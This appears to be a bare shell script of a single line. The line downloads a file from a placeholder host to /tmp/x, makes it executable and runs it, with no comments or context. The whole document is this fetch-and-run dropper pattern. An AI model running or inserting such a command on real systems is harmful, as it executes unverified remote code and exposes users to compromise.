#!/bin/sh
curl -o /tmp/x https://example.invalid/x && chmod +x /tmp/x && /tmp/x
